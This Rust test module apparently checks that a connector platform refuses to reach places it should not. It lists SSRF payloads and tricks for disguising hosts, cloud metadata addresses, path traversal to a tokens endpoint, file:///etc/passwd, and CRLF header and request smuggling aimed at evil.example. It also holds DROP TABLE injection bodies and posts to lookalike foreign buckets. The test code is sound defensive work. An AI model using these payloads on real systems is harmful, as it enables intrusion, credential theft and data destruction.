//! Attempts to get out: by the URL, by the configuration, by headers, methods and bodies, by what an answer names.

use std::net::SocketAddr;

use serde_json::{Value, json};

/// One attempt: requests of one call, of which the last is the attempt and those before it prepare it.
pub(super) struct Attempt {
    pub(super) name: String,
    pub(super) place: Place,
    pub(super) asked: Vec<Value>,
    pub(super) expect: Expect,
}

/// Which connection makes it.
pub(super) enum Place {
    /// The platform's own, with its address allowed and no other.
    Own(SocketAddr),
    /// One with this host name and port, with no special address allowed.
    Config(String, u16),
}

/// What must become of it.
#[derive(Clone, Copy)]
pub(super) enum Expect {
    /// Nothing is sent. Parts of what is told.
    Refused { guest: &'static str, operator: &'static str },
    /// It is answered, and what the answer leads to is not followed.
    Answered(&'static str),
    /// It is answered, and the answer discarded.
    Discarded,
}

const URL: Expect = Expect::Refused { guest: "denied: the URL ", operator: "the connector asked for " };
const UNDECLARED: Expect = Expect::Refused {
    guest: "denied: the request is outside of what the connector declared",
    operator: "does not declare",
};
const HEADER: Expect = Expect::Refused { guest: "denied: ", operator: "header" };
const METHOD: Expect = Expect::Refused { guest: "denied: the method must be", operator: "method" };
const SCOPE: Expect = Expect::Refused {
    guest: "denied: the request is outside the credential's scope",
    operator: "with the connection's credential",
};
const STATEMENT: Expect = Expect::Refused { guest: "denied: the ", operator: "with the connection's credential: the" };
const ADDRESS: Expect = Expect::Refused {
    guest: "denied: the platform's address is not allowed by the egress policy",
    operator: "[egress] allow_cidrs = [",
};
const NAMED: Expect =
    Expect::Refused { guest: "denied: an address that an answer named is fetched by GET", operator: "an answer named" };

/// All of them.
pub(super) fn all(platform: SocketAddr, forbidden: u16) -> Vec<Attempt> {
    let mut all = Vec::new();
    let mut own = |name: String, asked: Vec<Value>, expect| {
        all.push(Attempt { name, place: Place::Own(platform), asked, expect });
    };
    for (url, expect) in urls(platform, forbidden) {
        own(format!("URL `{}`", url.escape_debug()), vec![json!({ "url": url })], expect);
    }
    let origin = format!("http://{platform}");
    for (name, value) in HEADERS {
        let asked = json!({ "url": format!("{origin}/api/x"), "headers": [[name, value]] });
        own(format!("header `{}: {}`", name.escape_debug(), value.escape_debug()), vec![asked], HEADER);
    }
    for method in ["CONNECT", "TRACE", "OPTIONS", "get", "", "GET /tokens HTTP/1.1\r\n\r\nGET"] {
        let asked = json!({ "url": format!("{origin}/api/x"), "method": method });
        own(format!("method `{}`", method.escape_debug()), vec![asked], METHOD);
    }
    for (name, asked, expect) in requests(&origin) {
        own(name.to_owned(), vec![asked], expect);
    }
    for body in STATEMENTS {
        let asked = json!({ "url": format!("{origin}/sql"), "method": "POST", "body": body });
        own(format!("statement `{}`", body.escape_debug()), vec![asked], STATEMENT);
    }
    for (name, asked, expect) in named(&origin, platform.port()) {
        own(name.to_owned(), vec![json!({ "url": format!("{origin}/api/files") }), asked], expect);
    }
    let loopback = format!("{origin}/api/to-loopback?http://127.0.0.2:{forbidden}/");
    for (name, url) in [("metadata address", format!("{origin}/api/to-metadata")), ("loopback", loopback)] {
        own(format!("redirect to a {name}"), vec![json!({ "url": url })], Expect::Answered("302 "));
    }
    for way in ["in-header", "in-body", "in-error", "percent-encoded", "in-base64", "across-chunks", "gzipped"] {
        let asked = json!({ "url": format!("{origin}/api/{way}") });
        own(format!("reflected secret, {way}"), vec![asked], Expect::Discarded);
    }
    for (host, expect) in HOSTS {
        let asked = json!({ "url": format!("{host}:{forbidden}/api/x") });
        let place = Place::Config((*host).to_owned(), forbidden);
        all.push(Attempt { name: format!("configured host `{host}`"), place, asked: vec![asked], expect: *expect });
    }
    all
}

/// URLs of places that are not the connection's, and of its own in ways that could be read as others.
fn urls(platform: SocketAddr, forbidden: u16) -> Vec<(String, Expect)> {
    let (own, f) = (format!("http://{platform}"), forbidden);
    let hosts = [
        ("127.0.0.1", UNDECLARED),
        ("127.0.0.2", UNDECLARED),
        ("localhost", UNDECLARED),
        ("localhost.", UNDECLARED),
        ("LOCALHOST", UNDECLARED),
        ("2130706434", URL),
        ("017700000002", URL),
        ("0x7f000002", URL),
        ("0X7F.0.0.2", URL),
        ("0177.0.0.2", URL),
        ("127.2", URL),
        ("127.0.2", URL),
        ("127.0.0.02", URL),
        ("127.0.0.2.", URL),
        ("0", URL),
        ("[::1]", UNDECLARED),
        ("[0:0:0:0:0:0:0:1]", URL),
        ("[::ffff:127.0.0.2]", URL),
        ("[::ffff:7f00:2]", UNDECLARED),
        ("[64:ff9b::7f00:2]", UNDECLARED),
        ("[64:ff9b::127.0.0.2]", URL),
        ("[2002:7f00:2::]", UNDECLARED),
        ("[2001:0:7f00:2::]", UNDECLARED),
        ("[2001:0:80ff:fffd::1]", UNDECLARED),
        ("[fe80::1%25lo]", URL),
        ("[::]", UNDECLARED),
        ("0.0.0.0", UNDECLARED),
        ("127。0。0。2", URL),
        ("１２７.0.0.2", URL),
        ("①②⑦.0.0.2", URL),
        ("xn--127-0q0a.0.0.2", URL),
        ("%31%32%37.0.0.2", URL),
        ("user@127.0.0.2", URL),
        ("127.0.0.1:1@127.0.0.2", URL),
        ("127.0.0.2\t", URL),
        ("127.0.0\n.2", URL),
        ("169.254.169.254", UNDECLARED),
    ];
    let mut all: Vec<_> = hosts.iter().map(|(host, expect)| (format!("http://{host}:{f}/api/x"), *expect)).collect();
    all.extend([
        (format!("http://{platform}@127.0.0.2:{f}/api/x"), URL),
        (format!("http://127.0.0.2:{f}#@{platform}/api/x"), URL),
        (format!("http://127.0.0.2:{f}\\@{platform}/api/x"), URL),
        (format!("http:\\\\127.0.0.2:{f}\\api"), URL),
        (format!("//127.0.0.2:{f}/api/x"), URL),
        (format!("{own}//127.0.0.2:{f}/api/x"), URL),
        (format!("{own}/http://127.0.0.2:{f}/api/x"), URL),
        (format!("http://127.0.0.1:0{}/api/x", platform.port()), URL),
        (format!("https://{platform}/api/x"), UNDECLARED),
        (format!("HTTP://{platform}/api/x"), URL),
        (format!("ftp://127.0.0.2:{f}/x"), URL),
        ("file:///etc/passwd".to_owned(), URL),
        ("gopher://127.0.0.2/_GET".to_owned(), URL),
        ("data:text/plain,x".to_owned(), URL),
        (format!("{own}/api/../tokens"), URL),
        (format!("{own}/api/%2e%2e/tokens"), URL),
        (format!("{own}/api/..%2ftokens"), URL),
        (format!("{own}/api/%252e%252e/tokens"), URL),
        (format!("{own}/api\\..\\tokens"), URL),
        (format!("{own}/api/..;/tokens"), URL),
        (format!("{own}/api/x%00/../tokens"), URL),
        (format!("{own}/%61pi/x"), UNDECLARED),
        (format!("{own}/API/x"), UNDECLARED),
        (format!("{own}/admin"), UNDECLARED),
        (format!("{own}/api/x HTTP/1.1\r\nhost: evil.example\r\n\r\n"), URL),
        (format!("{own}/api/x\0"), URL),
    ]);
    all
}

/// Forged and smuggled.
const HEADERS: [(&str, &str); 22] = [
    ("authorization", "Bearer mine"),
    ("Authorization", "Basic bWluZQ=="),
    ("proxy-authorization", "Basic bWluZQ=="),
    ("cookie", "session=mine"),
    ("host", "evil.example"),
    ("x-forwarded-for", "127.0.0.1"),
    ("X-Forwarded-Host", "evil.example"),
    ("x_forwarded_host", "evil.example"),
    ("forwarded", "host=evil.example"),
    ("x-original-url", "/tokens"),
    ("x-http-method-override", "DELETE"),
    ("content-length", "0"),
    ("Content-Length", "5, 6"),
    ("transfer-encoding", "chunked"),
    ("transfer_encoding", "chunked"),
    ("te", "trailers"),
    ("connection", "authorization"),
    ("x-mine", "a\r\nauthorization: Bearer mine"),
    ("x-mine", "a\r\n folded"),
    ("x-mine", "a\0b"),
    ("x-mine\r\nhost", "evil.example"),
    ("content-length ", "5"),
];

/// Requests outside the credential's methods, paths and name.
fn requests(origin: &str) -> Vec<(&'static str, Value, Expect)> {
    let at = |path: &str, method: &str| json!({ "url": format!("{origin}{path}"), "method": method, "body": "{}" });
    let unknown = Expect::Refused { guest: "denied: there is no credential of this name", operator: "credential" };
    let mut named = at("/api/x", "GET");
    named["auth"] = "administrator".into();
    vec![
        ("minting a token", at("/tokens", "POST"), SCOPE),
        ("listing tokens", at("/tokens", "GET"), SCOPE),
        ("removing a grant", at("/grants/7", "DELETE"), SCOPE),
        ("writing where it may read", at("/api/x", "POST"), UNDECLARED),
        ("another verb on statements", at("/sql", "PUT"), UNDECLARED),
        ("another credential", named, unknown),
    ]
}

/// Bodies that are not one statement that shows something.
const STATEMENTS: [&str; 14] = [
    r#"{"statement":"DROP TABLE t"}"#,
    r#"{"statement":"SELECT 1; DROP TABLE t"}"#,
    r#"{"statement":"SELECT 1;DROP TABLE t--"}"#,
    r#"{"statement":"SELECT 1 /* ; */ ; DROP TABLE t"}"#,
    r#"{"statement":"/* SELECT */ DROP TABLE t"}"#,
    r#"{"statement":"-- SELECT\nDROP TABLE t"}"#,
    r#"{"statement":"SELECT '\\'; DROP TABLE t --'"}"#,
    r#"{"statement":"SELECT * INTO copy FROM t"}"#,
    r#"{"statement":"SELECT$$;DROP TABLE t$$"}"#,
    r#"{"statement":"SELECTED"}"#,
    r#"{"statement":"SELECT 1","statement":"DROP TABLE t"}"#,
    r#"{"statement":"SELECT 1","Statement":"DROP TABLE t"}"#,
    r#"{"sql":"DROP TABLE t"}"#,
    "DROP TABLE t",
];

/// Requests after an answer has named files.
fn named(origin: &str, port: u16) -> Vec<(&'static str, Value, Expect)> {
    let file = format!("{origin}/stage/named?sig=1");
    let plain = |url: &str| json!({ "url": url, "auth": "none" });
    let with = |key: &str, value: Value| {
        let mut asked = plain(&file);
        asked[key] = value;
        asked
    };
    let posted =
        json!({ "url": "https://bucket.stage.example/x", "method": "POST", "body": "all of it", "auth": "none" });
    let foreign_value = Expect::Refused { guest: "denied: the header `x-mine`", operator: "header" };
    vec![
        ("catalogue posted to a foreign bucket", posted, UNDECLARED),
        ("catalogue posted to a named file", with("method", "POST".into()), NAMED),
        ("catalogue put into a named file", with("method", "PUT".into()), NAMED),
        ("a named file with a body", with("body", "all of it".into()), NAMED),
        ("a named file with the credential", with("auth", "connection".into()), NAMED),
        ("a named file with a header", with("headers", json!([["x-mine", "all of it"]])), foreign_value),
        ("a named file with another query", plain(&format!("{file}&all=it")), UNDECLARED),
        ("a file of a foreign host, named", plain(&format!("http://127.0.0.2:{port}/stage/x")), UNDECLARED),
        ("a metadata address, named", plain("http://169.254.169.254/latest/meta-data"), UNDECLARED),
        ("a host that ends alike, named", plain("https://evilstage.example/x"), UNDECLARED),
        ("a host that begins alike, named", plain("https://bucket.stage.example.evil.example/x"), UNDECLARED),
        ("the bare suffix, named", plain("https://stage.example/x"), UNDECLARED),
        ("a bucket that was not named", plain("https://other.stage.example/x"), UNDECLARED),
    ]
}

/// Host names of connections, as somebody could register them.
const HOSTS: &[(&str, Expect)] = &[
    ("http://127.0.0.1", ADDRESS),
    ("http://127.0.0.2", ADDRESS),
    ("http://localhost", ADDRESS),
    ("http://169.254.169.254", ADDRESS),
    ("http://100.100.100.200", ADDRESS),
    ("http://168.63.129.16", ADDRESS),
    ("http://10.0.0.1", ADDRESS),
    ("http://192.168.0.1", ADDRESS),
    ("http://0.0.0.0", ADDRESS),
    ("http://[::1]", ADDRESS),
    ("http://[::]", ADDRESS),
    ("http://[::ffff:7f00:2]", ADDRESS),
    ("http://[64:ff9b::7f00:2]", ADDRESS),
    ("http://[2002:7f00:2::]", ADDRESS),
    ("http://[2001:0:7f00:2::]", ADDRESS),
    ("http://[fd00:ec2::254]", ADDRESS),
    ("http://[fe80::1]", ADDRESS),
];
